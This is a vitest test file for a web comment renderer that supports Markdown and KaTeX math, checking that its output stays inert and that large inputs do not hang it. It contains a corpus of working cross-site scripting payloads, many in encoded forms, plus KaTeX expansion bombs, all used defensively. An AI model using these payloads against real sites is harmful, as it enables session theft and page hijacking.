import sanitizeHtml from "sanitize-html";
import { describe, expect, it } from "vitest";
import { COMMENT_ATTRIBUTES, COMMENT_TAGS, renderCommentHtml } from "@/lib/comments/render";

interface Element {
  tag: string;
  attribs: Record<string, string>;
  /** Inside KaTeX's output (a `.katex` span), whose markup is KaTeX's own. */
  inMath: boolean;
}

/** Every element of `html`, as a browser's parser would see them (htmlparser2, via sanitize-html). */
function elements(html: string): Element[] {
  const found: Element[] = [];
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    exclusiveFilter(frame) {
      found.push({ tag: frame.tag, attribs: frame.attribs, inMath: false });
      return false;
    },
  });
  return found;
}

/**
 * Tags and attributes comment markup may contain outside math: the sanitiser's own allow-list, which the
 * first safety test holds to nothing dangerous (so widening it cannot widen what these checks accept).
 */
const TEXT_TAGS = new Set(COMMENT_TAGS);
const TEXT_ATTRIBUTES = new Set(Object.values(COMMENT_ATTRIBUTES).flat());
/** Elements KaTeX writes (HTML spans, MathML, and SVG paths for stretchy symbols). */
const MATH_TAGS = /^(span|math|semantics|annotation|m[a-z]+|svg|path|line)$/;
const DANGEROUS_TAGS =
  /^(script|style|iframe|object|embed|img|image|svg:script|foreignobject|form|input|base|meta|link)$/;

/**
 * Asserts that `html` is inert: only the allow-listed tags and attributes outside KaTeX's spans, no
 * event handlers, no `src`, and every link to http(s) or mailto with the forced `rel` and `target`.
 */
function expectInert(html: string) {
  const all = elements(html);
  for (const element of all) {
    const { tag, attribs } = element;
    expect(tag, html).not.toMatch(DANGEROUS_TAGS);
    for (const [name, value] of Object.entries(attribs)) {
      expect(name, html).not.toMatch(/^on/i);
      expect(name, html).not.toMatch(/^(src|srcset|xlink:href|action|formaction|background|poster|data)$/i);
      if (name === "style") expect(value, html).not.toMatch(/url\(|expression|javascript/i);
    }
    if (tag === "a") {
      expect(attribs.href ?? "", html).toMatch(/^(https?:\/\/|mailto:)/i);
      expect(attribs.rel).toBe("nofollow ugc noopener");
      expect(attribs.target).toBe("_blank");
    }
    if (!TEXT_TAGS.has(tag)) {
      expect(tag, html).toMatch(MATH_TAGS);
    } else {
      for (const name of Object.keys(attribs)) expect(TEXT_ATTRIBUTES.has(name), `${name} in ${html}`).toBe(true);
    }
    if (tag === "span" || /^m/.test(tag)) {
      for (const name of Object.keys(attribs)) {
        expect(name, html).toMatch(
          /^(class|style|aria-hidden|xmlns|encoding|mathvariant|stretchy|fence|separator|lspace|rspace|width|height|viewbox|preserveaspectratio|display|accent|accentunder|movablelimits|minsize|maxsize|linethickness|scriptlevel|columnalign|rowspacing|columnspacing|columnlines|rowlines|mathcolor|mathbackground|mathsize|symmetric|largeop)$/i,
        );
      }
    }
  }
  // No scheme a browser would run, in any attribute, in any spelling the parser decodes to.
  for (const element of all) {
    for (const value of Object.values(element.attribs)) {
      expect(value.replace(/[\s\u0000-\u001f]/g, ""), html).not.toMatch(/^(javascript|vbscript|data):/i);
    }
  }
}

/** The classic vectors, each written as a reader could type it into the comment box. */
const XSS_CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"javascript:alert('XSS')\">",
  '<svg onload="alert(1)"></svg>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<body onload="alert(1)">',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click]( javascript:alert(1) )",
  "[click](<javascript:alert(1)>)",
  "[click](javascript&#58;alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
  "[click](jav&#x09;ascript:alert(1))",
  "[click](java\\script:alert(1))",
  "[click](%6Aavascript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/x)",
  "[click](/relative/path)",
  "[click][ref]\n\n[ref]: javascript:alert(1)",
  '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '[click](https://ok.example" onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "<!-- <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "    <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "* [x](javascript:alert(1))",
  "**<img src=x onerror=alert(1)>**",
  "$<img src=x onerror=alert(1)>$",
  "$\\href{javascript:alert(1)}{click}$",
  "$\\url{javascript:alert(1)}$",
  "$\\htmlClass{x}{y}\\htmlStyle{background:url(javascript:alert(1))}{z}\\htmlId{a}{b}\\htmlData{onload=alert(1)}{c}$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "$\\def\\a{\\a\\a}\\a$",
  "[$x$](javascript:alert(1))",
  "$x$<script>alert(1)</script>$y$",
  "\u2028<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  'https://ok.example/"><script>alert(1)</script>',
  "www.example.com/<img/src/onerror=alert(1)>",
];

describe("renderCommentHtml: safety", () => {
  it("allow-lists only inert tags and attributes, none of them KaTeX's", () => {
    expect(TEXT_TAGS.size).toBeGreaterThan(0);
    for (const tag of TEXT_TAGS) {
      expect(tag).not.toMatch(DANGEROUS_TAGS);
      // A comment that could write KaTeX's elements itself would get past the checks for math.
      expect(tag).not.toMatch(MATH_TAGS);
    }
    for (const name of TEXT_ATTRIBUTES) {
      expect(name).not.toMatch(/^(on.*|src|srcset|style|class|xlink:href|action|formaction|background|poster|data)$/i);
    }
  });

  it("has a checker that catches active markup (so the corpus below can fail)", () => {
    expect(() => expectInert('<img src="x" onerror="alert(1)">')).toThrow();
    expect(() =>
      expectInert('<a href="javascript:alert(1)" rel="nofollow ugc noopener" target="_blank">x</a>'),
    ).toThrow();
    expect(() => expectInert('<a href="https://ok.example">x</a>')).toThrow();
    expect(() => expectInert('<p style="color:red">x</p>')).toThrow();
  });

  it.each(XSS_CORPUS)("leaves nothing active of %j", (input) => {
    expectInert(renderCommentHtml(input));
  });

  it("shows raw HTML as the text the author typed", () => {
    expect(renderCommentHtml("<script>alert(1)</script>")).toBe("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
    expect(renderCommentHtml("<img src=x onerror=alert(1)>")).toBe("<p>&lt;img src=x onerror=alert(1)&gt;</p>\n");
  });

  it("drops links to anything but http(s) and mailto, keeping their text", () => {
    for (const input of [
      "[click](javascript:alert(1))",
      "[click](&#106;avascript:alert(1))",
      "[click](//evil.example/x)",
    ]) {
      const html = renderCommentHtml(input);
      expect(html, input).not.toContain("<a");
      expect(html).toContain("click");
    }
  });

  it("embeds no images: the image syntax shows as text", () => {
    const html = renderCommentHtml("![a cat](https://example.org/cat.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain("a cat");
  });

  it("renders KaTeX's untrusted commands as inert text", () => {
    const html = renderCommentHtml("$\\href{javascript:alert(1)}{click}$");
    expect(elements(html).filter((element) => element.tag === "a")).toEqual([]);
    expect(html).not.toContain("href=");
  });

  it("cannot forge the math placeholder", () => {
    const html = renderCommentHtml("M000000000000000000000000N0Z and $x$");
    expect(html).toContain("M000000000000000000000000N0Z");
    expect(html).toContain('class="katex"');
  });
});

describe("renderCommentHtml: Markdown", () => {
  it("renders the safe subset", () => {
    const html = renderCommentHtml(
      "# Title\n\n**bold** _it_ ~~gone~~ `code`\n\n> quoted\n\n1. one\n2. two\n\n- a\n- b\n\n```\nx < y\n```\n\n---",
    );
    expect(html).toContain("<h3>Title</h3>");
    expect(html).toContain("<strong>bold</strong> <em>it</em> <s>gone</s> <code>code</code>");
    expect(html).toContain("<blockquote>\n<p>quoted</p>\n</blockquote>");
    expect(html).toContain("<ol>\n<li>one</li>\n<li>two</li>\n</ol>");
    expect(html).toContain("<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
    expect(html).toContain("<pre><code>x &lt; y\n</code></pre>");
    expect(html).toContain("<hr />");
  });

  it("keeps line breaks and a list's start number", () => {
    expect(renderCommentHtml("one\ntwo")).toBe("<p>one<br />\ntwo</p>\n");
    expect(renderCommentHtml("3. three\n4. four")).toContain('<ol start="3">');
  });

  it("links http(s) and mailto, written, autolinked and bare, with nofollow ugc and a new tab", () => {
    const attrs = 'rel="nofollow ugc noopener" target="_blank"';
    expect(renderCommentHtml("[arXiv](https://arxiv.org/abs/2501.12948)")).toContain(
      `<a href="https://arxiv.org/abs/2501.12948" ${attrs}>arXiv</a>`,
    );
    expect(renderCommentHtml("<https://example.org/a?b=1&c=2>")).toContain(
      `<a href="https://example.org/a?b=1&amp;c=2" ${attrs}>https://example.org/a?b=1&amp;c=2</a>`,
    );
    expect(renderCommentHtml("see https://example.org/x.")).toContain(
      `<a href="https://example.org/x" ${attrs}>https://example.org/x</a>.`,
    );
    expect(renderCommentHtml("see www.example.org")).toContain(`<a href="http://www.example.org" ${attrs}>`);
    expect(renderCommentHtml("[mail](mailto:a@example.org)")).toContain(
      `<a href="mailto:a@example.org" ${attrs}>mail</a>`,
    );
  });

  it("renders entities as the characters they name, escaped", () => {
    expect(renderCommentHtml("&copy; &amp; &lt;b&gt;")).toBe("<p>© &amp; &lt;b&gt;</p>\n");
  });
});

describe("renderCommentHtml: math", () => {
  it("renders inline and display math with KaTeX", () => {
    const inline = renderCommentHtml("Energy $E = mc^2$ holds.");
    expect(inline).toMatch(/^<p>Energy <span class="katex">/);
    expect(inline).toContain("<math");
    expect(inline).toContain('<annotation encoding="application/x-tex">E = mc^2</annotation>');
    const display = renderCommentHtml("$$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$");
    expect(display).toContain('class="katex-display"');
  });

  it("follows pandoc's rules for what is math", () => {
    expect(renderCommentHtml("It costs $5 and $10.")).toBe("<p>It costs $5 and $10.</p>\n");
    expect(renderCommentHtml("a $ b $ c")).toBe("<p>a $ b $ c</p>\n");
    expect(renderCommentHtml("\\$x\\$")).toBe("<p>$x$</p>\n");
    expect(renderCommentHtml("`$x$`")).toBe("<p><code>$x$</code></p>\n");
    expect(renderCommentHtml("```\n$x$\n```")).toBe("<pre><code>$x$\n</code></pre>\n");
    expect(renderCommentHtml("$a \\$ b$")).toContain('class="katex"');
  });

  it("shows math KaTeX cannot parse as its escaped source", () => {
    expect(renderCommentHtml("bad $\\frac{a$ math")).toBe("<p>bad $\\frac{a$ math</p>\n");
    expect(renderCommentHtml("$\\unknowncommand<b>$")).toBe("<p>$\\unknowncommand&lt;b&gt;$</p>\n");
  });

  it("renders math inside emphasis, lists and link text", () => {
    expect(renderCommentHtml("**$x$**")).toMatch(/^<p><strong><span class="katex">/);
    expect(renderCommentHtml("- $x$")).toContain('<li><span class="katex">');
    expect(renderCommentHtml("[$x$](https://example.org)")).toMatch(
      /<a href="https:\/\/example.org"[^>]*><span class="katex">/,
    );
  });

  it("renders at most 100 math spans per comment; the rest stay as source", () => {
    const html = renderCommentHtml(Array.from({ length: 120 }, (_, i) => `$x_{${i}}$`).join(" "));
    expect(html.match(/class="katex"/g)).toHaveLength(100);
    expect(html).toContain("$x_{119}$");
  });
});

describe("renderCommentHtml: hostile sizes", () => {
  it.each([
    ["dollars", "$a".repeat(5_000)],
    ["unclosed display math", "$$".concat("x ".repeat(4_990))],
    ["brackets", "[".repeat(10_000)],
    ["nested quotes", ">".repeat(10_000)],
    ["nested lists", "- ".repeat(5_000)],
    ["emphasis", "*_".repeat(5_000)],
    ["backticks", "`".repeat(10_000)],
    ["links", "[a](https://e.org/".repeat(550)],
  ])(
    "renders 10,000 characters of %s, inert, without hanging",
    (_name, input) => {
      // A guard against catastrophic (super-linear) parsing, not a speed target: these take 0.1–1.6 s on a
      // busy CI machine, a backtracking parser would take minutes. Speed belongs to the benchmarks.
      expectInert(renderCommentHtml(input.slice(0, 10_000)));
    },
    20_000,
  );
});

describe("renderCommentHtml: math bombs", () => {
  /** Issue 20's comment: 9,958 characters in five `$$\vec x…$$` spans, once a 4.55 MB page and seconds of CPU. */
  const bomb = Array.from({ length: 5 }, () => `$$${"\\vec x".repeat(331)}$$`).join("\n\n");

  it("renders the five-span \\vec comment to a few kilobytes, each span as its source", () => {
    expect(bomb).toHaveLength(9_958);
    const html = renderCommentHtml(bomb);
    // Typeset, it was 1.9 MB (sent twice: in the HTML and in React's payload).
    expect(html.length).toBeLessThan(20_000);
    expect(html).not.toContain("katex");
    expect(html).toContain("$$\\vec x\\vec x");
    expectInert(html);
  });

  it("caps what a comment's math may cost in all: later formulas stay source", () => {
    // Thirty formulas of 150 characters: each within the caps of one formula, past the comment's budget together.
    const heavy = Array.from({ length: 30 }, (_, i) => `$$${"a+".repeat(74)}${i}$$`).join("\n\n");
    const html = renderCommentHtml(heavy);
    expect(html.length).toBeLessThan(250_000);
    expect(html).toContain("katex-display");
    expect(html).toContain(`$$${"a+".repeat(74)}29$$`);
    expectInert(html);
  });

  it("shows a \\rule as large as the page as its source, and \\def bombs too", () => {
    const html = renderCommentHtml(
      `Look: $\\rule{100000em}{100000em}$ and $$\\def\\a{${"\\vec x".repeat(100)}}${"\\a".repeat(150)}$$`,
    );
    expect(html).not.toContain("katex");
    expect(html).toContain("$\\rule{100000em}{100000em}$");
    expect(html.length).toBeLessThan(5_000);
  });
});
